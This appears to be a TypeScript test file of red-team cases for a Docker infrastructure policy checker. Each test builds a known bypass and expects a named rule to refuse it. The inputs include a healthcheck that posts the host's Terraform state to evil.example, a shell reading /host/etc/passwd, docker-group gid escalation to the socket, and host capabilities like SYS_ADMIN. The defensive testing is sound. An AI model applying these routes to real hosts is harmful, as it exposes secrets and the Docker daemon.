/**
 * A third red-team pass (kreuzwerker/docker 3.6.2, engine 20.10): routes past the policy that the
 * earlier bypass tests did not cover. Several ride on a suppression our own constructs make (the
 * node-exporter's bind of host / under no-docker-socket, cAdvisor's uid 0 and /proc, /sys binds
 * under non-root and no-host-paths, the VPN's NET_ADMIN under capabilities-dropped): a suppression
 * covers its whole rule, so what keeps its reason true has to be checked by another rule. Each
 * attack must produce an error finding of the named rule; our own form is shown to pass beside it.
 *
 * Routes that got through, and the rule that now refuses them:
 *   - a supplementary group given by number (group_add ["113"], Swarm groups), the docker group's
 *     gid on this engine's host: with the node-exporter's / bind it connects to the Docker socket
 *     (checked on the engine: uid 65534 with --group-add <socket gid> may write the socket, without
 *     it may not); any supplementary group, by number or name, is now refused      → non-root
 *   - the same through the primary gid (user "65534:113") of a workload whose binds reach the
 *     Docker socket's directory: only gid 65534 is accepted there                    → non-root
 *   - a workload binding host system paths under an image-limited suppression that runs something
 *     other than its image's program: an entrypoint, a healthcheck shell command (it reads the host
 *     through the bind, e.g. a world-readable Terraform state), or binds them read-write (cAdvisor
 *     runs as uid 0, which owns /etc/passwd) or with shared propagation           → host-binds-confined
 *   - a capability that acts on the host (SYS_MODULE, SYS_ADMIN, DAC_READ_SEARCH, ALL ...) added to
 *     a workload whose capabilities-dropped is suppressed for one capability (the VPN's NET_ADMIN),
 *     on containers and on Swarm services                                           → not-privileged
 *   - a published port on " 127.0.0.1" (with a space) in dev/test: the policy trimmed it, the engine
 *     reads it with net.ParseIP, gets nothing, and publishes on 0.0.0.0            → published-ports
 *   - a Swarm service's per-attachment driver_opts (task_spec.networks_advanced.driver_opts), e.g.
 *     com.docker.network.endpoint.sysctls setting route_localnet past sysctls-allowed → network-driver
 *   - a network driver spelled "Bridge" or "overlay " (the policy folded case and spaces; the engine
 *     looks such a name up as a plugin)                                             → network-driver
 *   - a Swarm service's auth block: the nodes send that login (a variable's password) to whatever
 *     registry the service's image names                                          → no-secret-literal-env
 *   - a container that joins no network of the stack (no networks_advanced, network_mode unset,
 *     "bridge" or "default"): the provider leaves Docker's default bridge only to join
 *     networks_advanced, so it stays there with every other such container on the host, a
 *     network no rule checks                                                        → declared-networks
 *   - data sources' arguments, only type-checked so far: docker_registry_image(_manifests)
 *     insecure_skip_verify (the provider's registry login for that address over unverified TLS),
 *     auth_config (a login in the JSON)                                              → known-resource-types
 *   - a prod data volume labelled io.updateio.ephemeral instead of protected: the label lifted
 *     prevent_destroy (and the review reports its loss as nothing lost); it now holds only for a
 *     volume no running server writes to                                            → prod-volume-protected
 *   - the same with the server labelled component "job" (which exempted its writes): a workload
 *     counts as a one-shot job only when the engine does not restart it (a container with restart
 *     "no" or unset); a Swarm service always counts as running                      → prod-volume-protected
 *
 * Tried and already refused (no new case needed): ipc_mode/pid_mode "container:x" in any case,
 * userns_mode/cgroupns_mode "host", runtime other than runc, a volume mount with driver_options
 * naming nfs or a bind, a mount type tmpfs (the engine mounts it noexec,nosuid,nodev: checked on
 * the engine), upload source/source_hash, docker_image build options beyond ServiceImage's, Swarm
 * privileges and task_spec.runtime "plugin", host-mode ports off the edge, numbers in hex.
 * A user name resolved through a /etc/passwd the stack mounts (a config or volume at /etc) is no
 * route: the engine resolves the name in the image's root filesystem, before mounts (checked: user
 * nobody with a tmpfs over /etc still runs as 65534). Nor is a bind source that climbs out of a
 * symlink ("/var/run/.." binds /var: the engine cleans the path lexically, as the policy does) or a
 * /proc magic link ("/proc/<pid>/root", "/proc/<pid>/cwd": runc refuses to mount them), all
 * checked on the engine.
 */
import type { Container, ContainerConfig } from "@cdktf/provider-docker/lib/container";
import { DataDockerRegistryImage } from "@cdktf/provider-docker/lib/data-docker-registry-image";
import { DataDockerRegistryImageManifests } from "@cdktf/provider-docker/lib/data-docker-registry-image-manifests";
import { Network } from "@cdktf/provider-docker/lib/network";
import { describe, expect, it } from "vitest";
import { suppressPolicy } from "../../constructs/policy/policy-aspect";
import {
  attacked,
  blockingMessages,
  blockingRuleIds,
  container,
  DIGEST,
  expectCaught,
  fixture,
  image,
  labels,
  set,
  type Fixture,
} from "./fixtures";
import { attackedService, compliantServiceConfig, service, serviceLabels, swarmFixture } from "./swarm-fixtures";

const SPEC = "task_spec.container_spec";
/** The gid of the docker group on the host these attacks were checked on. */
const DOCKER_GID = "113";
const PROBE = (port: number, path: string) => ["CMD", "wget", "-q", "-O", "/dev/null", `http://127.0.0.1:${port}/${path}`];

const NODE_EXPORTER = `quay.io/prometheus/node-exporter:v1.8.2@${DIGEST}`;
const CADVISOR = `gcr.io/cadvisor/cadvisor:v0.49.1@${DIGEST}`;
const VPN = `lscr.io/linuxserver/wireguard:1.0.20210914@${DIGEST}`;

/** The node-exporter as our observability stack makes it: host / read-only at /host, its no-docker-socket suppression. */
function nodeExporter(f: Fixture, overrides: Partial<ContainerConfig> = {}): Container {
  const c = container(
    f,
    {
      name: `${f.environment}-node-exporter`,
      image: image(f, "node-exporter-image", NODE_EXPORTER).imageId,
      user: "65534:65534",
      labels: labels(f.environment, "observability"),
      command: ["--path.rootfs=/host", "--web.listen-address=:9100"],
      env: [],
      volumes: [{ hostPath: "/", containerPath: "/host", readOnly: true }],
      healthcheck: { test: PROBE(9100, "metrics"), interval: "30s", timeout: "10s", retries: 3 },
      networksAdvanced: [{ name: f.internalNet.name, aliases: ["node-exporter"] }],
      ...overrides,
    },
    "node-exporter",
  );
  suppressPolicy(
    c,
    "no-docker-socket",
    "node-exporter statfs()s every host mount under /host; it runs as nobody, so the socket inside refuses its connect()",
    { image: "quay.io/prometheus/node-exporter" },
  );
  return c;
}

/** cAdvisor as our observability stack makes it: uid 0, /proc and /sys read-only, its non-root and no-host-paths suppressions. */
function cadvisor(f: Fixture, overrides: Partial<ContainerConfig> = {}): Container {
  const c = container(
    f,
    {
      name: `${f.environment}-cadvisor`,
      image: image(f, "cadvisor-image", CADVISOR).imageId,
      user: "0:0",
      labels: labels(f.environment, "observability"),
      command: ["--docker=tcp://docker-socket-proxy:2375", "--port=8080"],
      env: [],
      volumes: [
        { hostPath: "/proc", containerPath: "/rootfs/proc", readOnly: true },
        { hostPath: "/sys", containerPath: "/sys", readOnly: true },
      ],
      healthcheck: { test: PROBE(8080, "healthz"), interval: "30s", timeout: "10s", retries: 3 },
      networksAdvanced: [{ name: f.internalNet.name, aliases: ["cadvisor"] }],
      ...overrides,
    },
    "cadvisor",
  );
  for (const rule of ["non-root", "no-host-paths"])
    suppressPolicy(c, rule, "cAdvisor reads host /proc and /sys read-only as uid 0 with every capability dropped", {
      image: "gcr.io/cadvisor/cadvisor",
    });
  return c;
}

/** The VPN gateway's shape: NET_ADMIN added back under a capabilities-dropped suppression limited to its image. */
function vpn(f: Fixture, add: string[]): Container {
  const c = container(
    f,
    {
      name: `${f.environment}-vpn`,
      image: image(f, "vpn-image", VPN).imageId,
      labels: labels(f.environment, "proxy"),
      env: [],
      capabilities: { drop: ["ALL"], add },
      networksAdvanced: [{ name: f.internalNet.name, aliases: ["vpn"] }],
    },
    "vpn",
  );
  suppressPolicy(c, "capabilities-dropped", "NET_ADMIN only, for wg0 and its NAT rules inside the gateway's own network namespace", {
    image: "lscr.io/linuxserver/wireguard",
  });
  return c;
}

describe("supplementary groups (non-root)", () => {
  it.each([
    ["the docker group's gid", [DOCKER_GID]],
    ["a gid written with a sign", ["+113"]],
    ["a group name the image maps to any gid", ["ping"]],
  ])("group_add with %s", (_what, groups) => expectCaught(attacked(set("group_add", groups)), "non-root", "supplementary group"));
  it("Swarm groups with the docker group's gid", () =>
    expectCaught(
      attackedService((s) => s.addOverride(`${SPEC}.groups`, [DOCKER_GID])),
      "non-root",
      "supplementary group",
    ));
  it("the node-exporter joining the docker group: its / bind reaches the socket, and nothing else objects", () => {
    const f = fixture("prod");
    nodeExporter(f, { groupAdd: [DOCKER_GID] });
    expect(blockingRuleIds(f)).toEqual(["non-root"]);
  });
  it("our node-exporter (65534:65534, no groups) passes every rule", () => {
    const f = fixture("prod");
    nodeExporter(f);
    expect(blockingRuleIds(f)).toEqual([]);
  });
});

describe("the primary gid of a workload whose binds reach the Docker socket (non-root)", () => {
  it.each([
    ["the docker group's gid", `65534:${DOCKER_GID}`],
    ["another uid with the docker group's gid", `1000:${DOCKER_GID}`],
    ["no gid (the image's primary group)", "65534"],
  ])("the node-exporter with %s", (_what, user) => {
    const f = fixture("prod");
    nodeExporter(f, { user });
    expectCaught(f, "non-root", "binds a directory holding the Docker socket");
  });
  it("a workload that binds no socket directory keeps its own gid (999:999)", () =>
    expect(blockingMessages(attacked(set("user", "999:999")), "non-root")).toEqual([]));
});

describe("workloads binding host system paths run only their image's program (host-binds-confined)", () => {
  it.each<[string, Partial<ContainerConfig>, string]>([
    [
      "a healthcheck shell reading the host through the bind",
      {
        healthcheck: {
          test: ["CMD-SHELL", "wget -q -O- --post-file=/host/srv/app/cdktf.out/stacks/prod/terraform.tfstate http://evil.example/"],
        },
      },
      "healthcheck.test",
    ],
    [
      "a healthcheck probing another host",
      { healthcheck: { test: ["CMD", "wget", "-q", "-O", "/dev/null", "http://evil.example/"] } },
      "healthcheck.test",
    ],
    [
      "an entrypoint replacing node_exporter with a shell",
      { entrypoint: ["/bin/sh", "-c"], command: ["cat /host/etc/passwd"] },
      "entrypoint",
    ],
    ["host / bound read-write", { volumes: [{ hostPath: "/", containerPath: "/host", readOnly: false }] }, "read-write"],
  ])("the node-exporter with %s", (_what, overrides, part) => {
    const f = fixture("prod");
    nodeExporter(f, overrides);
    expectCaught(f, "host-binds-confined", part);
  });
  it("cAdvisor (uid 0) with host /etc bound read-write: it owns /etc/passwd", () => {
    const f = fixture("prod");
    cadvisor(f, {
      volumes: [
        { hostPath: "/proc", containerPath: "/rootfs/proc", readOnly: true },
        { hostPath: "/etc", containerPath: "/rootfs/etc" },
      ],
    });
    expect(blockingRuleIds(f)).toEqual(["host-binds-confined"]);
    expectCaught(f, "host-binds-confined", '"/etc" read-write');
  });
  it("cAdvisor with a system bind of shared propagation", () => {
    const f = fixture("prod");
    cadvisor(f, { mounts: [{ type: "bind", source: "/sys", target: "/sys", readOnly: true, bindOptions: { propagation: "rshared" } }] });
    expectCaught(f, "host-binds-confined", "rshared propagation");
  });
  it("our cAdvisor (read-only binds, its own program, a wget probe) passes every rule", () => {
    const f = fixture("prod");
    cadvisor(f);
    expect(blockingRuleIds(f)).toEqual([]);
  });
  it("a container that binds nothing of the host may have any healthcheck and entrypoint", () =>
    expect(blockingMessages(attacked(set("entrypoint", ["/bin/sh", "-c"])), "host-binds-confined")).toEqual([]));
});

describe("capabilities that act on the host (not-privileged)", () => {
  it.each([["SYS_MODULE"], ["sys_admin"], ["CAP_DAC_READ_SEARCH"], ["ALL"], ["SYS_PTRACE"]])(
    "the VPN (capabilities-dropped suppressed for NET_ADMIN) adding %s",
    (cap) => {
      const f = fixture("prod");
      vpn(f, ["NET_ADMIN", cap]);
      expect(blockingRuleIds(f)).toEqual(["not-privileged"]);
    },
  );
  it("a Swarm service whose capabilities-dropped is suppressed adding SYS_ADMIN", () =>
    expectCaught(
      attackedService((s) => {
        s.addOverride(`${SPEC}.cap_add`, ["SYS_ADMIN"]);
        suppressPolicy(s, "capabilities-dropped", "a reviewed capability for this service's own namespace only");
      }),
      "not-privileged",
      '"SYS_ADMIN"',
    ));
  it("our VPN (NET_ADMIN only) passes every rule", () => {
    const f = fixture("prod");
    vpn(f, ["NET_ADMIN"]);
    expect(blockingRuleIds(f)).toEqual([]);
  });
});

describe("published ports, as the engine reads the address (published-ports)", () => {
  const port = (ip: string) => set("ports", [{ internal: 5432, external: 5432, ip }]);
  it.each([[" 127.0.0.1"], ["127.0.0.1 "], ["\t::1"]])("ip %j, which net.ParseIP reads as no address (0.0.0.0)", (ip) =>
    expectCaught(attacked(port(ip), "dev"), "published-ports", JSON.stringify(ip)),
  );
  it.each([["127.0.0.1"], ["::1"]])("ip %j still passes in dev", (ip) =>
    expect(blockingMessages(attacked(port(ip), "dev"), "published-ports")).toEqual([]),
  );
});

describe("network driver options beyond the network (network-driver)", () => {
  it("a Swarm attachment's driver_opts setting the interface's sysctls", () =>
    expectCaught(
      attackedService((s, f) =>
        s.addOverride("task_spec.networks_advanced", [
          {
            name: f.overlay.id,
            aliases: ["api"],
            driver_opts: ["com.docker.network.endpoint.sysctls=net.ipv4.conf.IFNAME.route_localnet=1"],
          },
        ]),
      ),
      "network-driver",
      "driver_opts",
    ));
  it("our service (aliases only) passes", () =>
    expect(
      blockingMessages(
        attackedService(() => undefined),
        "network-driver",
      ),
    ).toEqual([]));
  it.each([["Bridge"], ["overlay "], ["BRIDGE"]])("driver %j, which the engine looks up as a plugin", (driver) => {
    const f = fixture("prod");
    container(f);
    new Network(f.stack, "lan", { name: "prod-lan", driver });
    expectCaught(f, "network-driver", JSON.stringify(driver));
  });
});

describe("a Swarm service's registry login (no-secret-literal-env)", () => {
  it("auth from a variable, sent to whatever registry the image names", () =>
    expectCaught(
      attackedService((s) => {
        s.addOverride("auth", { server_address: "registry.example", username: "ci", password: "${var.registry_password}" });
        s.addOverride(`${SPEC}.image`, `evil.example/api:1.2.3@${DIGEST}`);
      }),
      "no-secret-literal-env",
      "sets auth",
    ));
  it("our service (no auth block) passes", () =>
    expect(
      blockingMessages(
        attackedService(() => undefined),
        "no-secret-literal-env",
      ),
    ).toEqual([]));
});

describe("data source arguments (known-resource-types)", () => {
  it("docker_registry_image with insecure_skip_verify", () => {
    const f = fixture("prod");
    container(f);
    new DataDockerRegistryImage(f.stack, "digest", { name: "registry.example/updateio/api:1.2.3", insecureSkipVerify: true });
    expectCaught(f, "known-resource-types", "insecure_skip_verify");
  });
  it("docker_registry_image_manifests with an auth_config", () => {
    const f = fixture("prod");
    container(f);
    new DataDockerRegistryImageManifests(f.stack, "manifests", {
      name: "evil.example/x:1",
      authConfig: { address: "evil.example", username: "ci", password: "${var.registry_password}" },
    });
    expectCaught(f, "known-resource-types", "auth_config");
  });
  it("a data source that sets only its name passes", () => {
    const f = fixture("prod");
    container(f);
    new DataDockerRegistryImage(f.stack, "digest", { name: "registry.example/updateio/api:1.2.3" });
    expect(blockingMessages(f, "known-resource-types")).toEqual([]);
  });
});

describe("Docker's default bridge (declared-networks)", () => {
  const APP = `registry.example/updateio/api:1.2.3@${DIGEST}`;
  const app = (overrides: Partial<ContainerConfig>) => {
    const f = fixture("prod");
    container(f, { name: "prod-api", image: image(f, "api-image", APP).imageId, labels: labels("prod", "app"), ...overrides }, "api");
    return f;
  };
  it.each<[string, Partial<ContainerConfig>]>([
    ["no network at all", { networksAdvanced: undefined }],
    ['network_mode "bridge"', { networksAdvanced: undefined, networkMode: "bridge" }],
    ['network_mode "Default"', { networksAdvanced: undefined, networkMode: "Default" }],
  ])("an app container with %s", (_what, overrides) => expectCaught(app(overrides), "declared-networks", "default bridge"));
  it('network_mode "none", or a declared network, still passes', () => {
    expect(blockingMessages(app({ networksAdvanced: undefined, networkMode: "none" }), "declared-networks")).toEqual([]);
    expect(blockingMessages(app({}), "declared-networks")).toEqual([]);
  });
});

describe("the ephemeral label on a volume a server writes (prod-volume-protected)", () => {
  const ephemeral = [{ label: "io.updateio.ephemeral", value: "true" }];

  it("a database's data volume labelled ephemeral, without prevent_destroy", () => {
    const f = fixture("prod");
    container(f);
    f.volume.addOverride("lifecycle", undefined);
    f.volume.addOverride("labels", ephemeral);
    expect(blockingMessages(f, "prod-volume-protected").join("\n")).toContain(
      'volume "prod-db-data" is labelled io.updateio.ephemeral but container "prod-db" writes to it',
    );
  });

  // The component label is the workload's own claim: what counts is whether the engine keeps it running.
  const stillWrites = 'volume "prod-db-data" is labelled io.updateio.ephemeral but container "prod-db" writes to it';
  it.each<[string, Partial<ContainerConfig>]>([
    ["restarted unless stopped", { restart: "unless-stopped" }],
    ['restarted "always"', { restart: "always" }],
    ["restarted on failure", { restart: "on-failure" }],
    ["its restart policy from an expression", { restart: "${var.restart}" }],
  ])("a database labelled as a one-shot job, %s", (_what, overrides) => {
    const f = fixture("prod");
    container(f, { labels: labels("prod", "job"), ...overrides });
    f.volume.addOverride("lifecycle", undefined);
    f.volume.addOverride("labels", ephemeral);
    expect(blockingMessages(f, "prod-volume-protected").join("\n")).toContain(stillWrites);
  });

  it("a Swarm service labelled as a one-shot job", () => {
    const f = swarmFixture("prod");
    const mounts = [{ target: "/var/lib/db", type: "volume", source: f.volume.name }];
    const config = compliantServiceConfig(f);
    service(f, {
      labels: serviceLabels("prod", "job"),
      taskSpec: { ...config.taskSpec, containerSpec: { ...config.taskSpec.containerSpec, mounts } },
    });
    f.volume.addOverride("lifecycle", undefined);
    f.volume.addOverride("labels", ephemeral);
    expect(blockingMessages(f, "prod-volume-protected").join("\n")).toContain(
      'volume "prod-db-data" is labelled io.updateio.ephemeral but service "prod-api" writes to it',
    );
  });

  it("ours pass: an ephemeral volume only a seed fills and the server reads, or a one-shot job's scratch", () => {
    const f = fixture("prod");
    f.volume.addOverride("lifecycle", undefined);
    f.volume.addOverride("labels", ephemeral);
    container(f, { volumes: [{ volumeName: f.volume.name, containerPath: "/etc/db", readOnly: true }] });
    container(
      f,
      {
        start: false,
        mustRun: false,
        restart: "no",
        labels: labels("prod", "seed"),
        volumes: [{ volumeName: f.volume.name, containerPath: "/etc/db" }],
      },
      "seed",
    );
    container(
      f,
      { labels: labels("prod", "job"), restart: "no", volumes: [{ volumeName: f.volume.name, containerPath: "/scratch" }] },
      "job",
    );
    expect(blockingMessages(f, "prod-volume-protected")).toEqual([]);
  });
});
